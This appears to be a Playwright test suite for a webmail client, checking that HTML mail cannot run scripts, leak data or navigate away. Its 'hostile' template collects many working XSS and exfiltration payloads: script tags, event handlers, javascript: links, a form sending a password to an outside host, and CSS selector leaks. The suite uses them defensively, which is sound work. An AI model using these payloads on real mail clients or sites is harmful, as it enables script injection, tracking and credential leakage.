import type { Page } from 'playwright/test';
import { expect, test } from './fixtures.ts';

/** Everything a mail could try, aimed at `host`. Anything that runs calls `alert` or asks `host` for something. */
const hostile = (host: string) => `
<html><head><base href="${host}/base/" target="_top"><title>taken over</title>
<meta http-equiv="refresh" content="0;url=${host}/refresh">
<link rel="stylesheet" href="${host}/link.css"><link rel="preload" as="image" href="${host}/preload.png">
<link rel="prefetch" href="${host}/prefetch"><link rel="dns-prefetch" href="${host}"><link rel="preconnect" href="${host}">
<script src="${host}/script.js"></script><script>alert('script'); top.location = '${host}/top'</script>
<style>@import url("${host}/import.css"); @font-face { font-family: x; src: url(${host}/font) } body { background: url(${host}/background.png); font-family: x }</style>
</head><body onload="alert('onload')" background="${host}/body.png">
<p>Words that can be read</p>
<img src="${host}/pixel.png" onerror="alert('onerror')"><img src="x" onerror="alert('relative')">
<img srcset="${host}/srcset.png 1x"><video poster="${host}/poster.png" src="${host}/video" autoplay></video><audio src="${host}/audio" autoplay></audio>
<form action="${host}/form" target="_top"><input name="password" value="secret"><button>Send it</button></form>
<svg onload="alert('svg')"><script>alert('svg script')</script><image href="${host}/svg.png"/><use href="${host}/use.svg#x"/></svg>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;&lt;img src='${host}/srcdoc.png'&gt;"></iframe>
<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed">
<a href="javascript:alert('link')">a script link</a> <a href="${host}/linked" target="_top" ping="${host}/ping">an outside link</a>
<details open ontoggle="alert('toggle')"><summary>more</summary></details><input autofocus onfocus="alert('focus')">
<math><a xlink:href="javascript:alert('math')">formula</a></math><p style="background:url(${host}/style.png)">styled</p>
<a href="data:text/html,<script>alert('data')</script>" target="_top">a data link</a> <a href="vbscript:alert(1)">an old link</a>
<svg><a href="javascript:alert('svg link')"><text y="20">a drawn link</text></a><animate attributeName="href" values="javascript:alert('animate')"/>
<foreignObject><iframe srcdoc="&lt;script&gt;top.location='${host}/foreign'&lt;/script&gt;"></iframe></foreignObject></svg>
<iframe sandbox="allow-scripts allow-top-navigation allow-same-origin" srcdoc="&lt;script&gt;top.location='${host}/loosened'&lt;/script&gt;"></iframe>
<style>input[value^="s"] { background-image: url(${host}/leak-s) } @media (min-width: 1px) { p { list-style-image: url(${host}/leak-media) } }
p::before { content: url(${host}/leak-content) } p { cursor: url(${host}/leak-cursor), auto; border-image: url(${host}/leak-border) 1 }
:root { --leak: url(${host}/leak-variable) } body { mask-image: image-set("${host}/leak-set" 1x); background: var(--leak) }</style>
<noscript><img src="${host}/noscript.png"></noscript><template><img src="${host}/template.png"></template>
<button form="outside" formaction="${host}/formaction" formtarget="_top">Send it elsewhere</button><form id="outside"></form>
</body></html>`;

/** What must not happen to a page: dialogs, navigations of the whole, requests that reach others than `origin`. */
function watch(page: Page, origin: string): string[] {
  const harm: string[] = [];
  page.on('dialog', (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame() && !frame.url().startsWith(origin))
      harm.push(`navigation: ${frame.url()}`);
  });
  // What the policy of the document blocks is never finished: it did not leave the browser.
  page.on('requestfinished', (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !/^(data|about|blob):/.test(url)) harm.push(`request: ${url}`);
  });
  return harm;
}

test('an HTML mail runs nothing, fetches nothing and takes nobody away', async ({
  inbox,
  send,
  stranger,
  page,
  sandbox,
}) => {
  const harm = watch(page, sandbox.url);
  await send({ subject: '<img src=x onerror=alert(1)>', html: hostile(stranger.url) });
  await inbox.read('<img src=x onerror=alert(1)>');
  await expect(inbox.html.getByText('Words that can be read')).toBeVisible();
  await inbox.html.getByRole('button', { name: 'Send it', exact: true }).click();
  await inbox.html.getByRole('textbox').first().press('Enter');
  await inbox.html.getByRole('button', { name: 'Send it elsewhere' }).click();
  for (const link of ['a script link', 'an old link', 'a drawn link'])
    await inbox.html.getByText(link).click();
  await inbox.html.getByText('a data link').click();
  // A second mail is shown after the first has had its chance.
  await send({ subject: 'Afterwards', html: '<p>Peace</p>' });
  await inbox.read('Afterwards');
  await expect(inbox.html.getByText('Peace')).toBeVisible();

  expect(harm).toEqual([]);
  expect(stranger.asked).toEqual([]);
  await expect(page).toHaveTitle('Restante');
  expect(page.url()).toContain(`${sandbox.url}/#/in/`);
});

test('nor does its document when it is opened in a tab of its own', async ({
  inbox,
  send,
  stranger,
  context,
  sandbox,
  mailbox,
}) => {
  await send({ subject: 'Hostile', html: hostile(stranger.url) });
  await expect(inbox.row('Hostile')).toBeVisible();
  const answer = await fetch(`${sandbox.url}/api/messages?mailbox=${mailbox}`);
  const { messages } = (await answer.json()) as { messages: { id: string }[] };
  const tab = await context.newPage();
  const harm = watch(tab, sandbox.url);
  await tab.goto(`${sandbox.url}/api/messages/${messages[0]?.id ?? ''}/html`);
  await expect(tab.getByText('Words that can be read')).toBeVisible();
  for (const link of ['a script link', 'a data link', 'a drawn link']) await tab.getByText(link).click();
  await tab.getByRole('button', { name: 'Send it', exact: true }).click();
  expect(harm).toEqual([]);
  expect(stranger.asked).toEqual([]);
});

test('a link opens a tab of its own, which knows nothing of the inbox', async ({
  inbox,
  send,
  stranger,
  page,
}) => {
  await send({ subject: 'A link', html: `<a href="${stranger.url}/linked" target="_top">out</a>` });
  await inbox.read('A link');
  const popup = page.waitForEvent('popup');
  await inbox.html.getByRole('link', { name: 'out' }).click();
  const tab = await popup;
  await expect(tab).toHaveURL(`${stranger.url}/linked`);
  expect(await tab.evaluate(() => window.opener === null && document.referrer === '')).toBe(true);
  await expect(inbox.message).toBeVisible();
});

test('remote images are fetched after they were asked for, and still nothing runs', async ({
  inbox,
  send,
  stranger,
  page,
  sandbox,
}) => {
  const image = `${stranger.url}/pixel.png`;
  await send({
    subject: 'Newsletter',
    html: `<p>News</p><img alt="remote" src="${image}"><script>alert(1)</script><iframe src="${stranger.url}/frame"></iframe>`,
  });
  await inbox.read('Newsletter');
  await expect(inbox.html.getByText('News')).toBeVisible();
  await expect(inbox.message.getByText('1 remote reference blocked.')).toBeVisible();
  expect(stranger.asked).toEqual([]);

  const harm = watch(page, sandbox.url);
  await inbox.message.getByRole('button', { name: 'Show' }).click();
  const remote = inbox.html.getByRole('img', { name: 'remote' });
  await expect(remote).toHaveJSProperty('complete', true);
  await expect(remote).toHaveJSProperty('naturalWidth', 1);
  expect(stranger.asked).toEqual(['/pixel.png']);
  expect(harm).toEqual([`request: ${image}`]);
});

test('images that came with the mail are shown at once', async ({ inbox, send, page, sandbox }) => {
  const harm = watch(page, sandbox.url);
  const content = Buffer.from('R0lGODlhAQABAIAAAP8AAP8AACwAAAAAAQABAAACAkQBADs=', 'base64');
  await send({
    subject: 'With its logo',
    html: '<img alt="logo" src="cid:logo@example.org"><p>Hello</p>',
    attachments: [{ filename: 'logo.gif', content, cid: 'logo@example.org' }],
  });
  await inbox.read('With its logo');
  await expect(inbox.html.getByRole('img', { name: 'logo' })).toHaveJSProperty('naturalWidth', 1);
  await expect(inbox.message.getByText('remote reference')).toBeHidden();
  expect(harm).toEqual([]);
});

test('a table of 30,000 cells and HTML of 10 MB leave the inbox usable', async ({
  inbox,
  send,
  stranger,
  page,
  sandbox,
}) => {
  const harm = watch(page, sandbox.url);
  const pixel = `<img src="${stranger.url}/pixel.png" onerror="alert(1)">`;
  await send({ subject: 'Large table', html: `<p>Cells</p><table>${row(100, pixel).repeat(300)}</table>` });
  await send({
    subject: 'Large HTML',
    html: `<p>Start</p>${`<p>${'Lorem ipsum '.repeat(80)}</p>`.repeat(10_500)}${pixel}`,
  });
  await send({ subject: 'Small', html: '<p>Peace</p>' });
  for (const [subject, words] of [
    ['Large table', 'Cells'],
    ['Large HTML', 'Start'],
    ['Small', 'Peace'],
  ] as const) {
    await inbox.read(subject);
    await expect(inbox.html.getByText(words)).toBeVisible();
  }
  expect(harm).toEqual([]);
  expect(stranger.asked).toEqual([]);
  expect(page.url()).toContain(`${sandbox.url}/#/in/`);
});

const row = (cells: number, last: string) =>
  `<tr>${'<td width="9999">cell</td>'.repeat(cells - 1)}<td>${last}</td></tr>`;
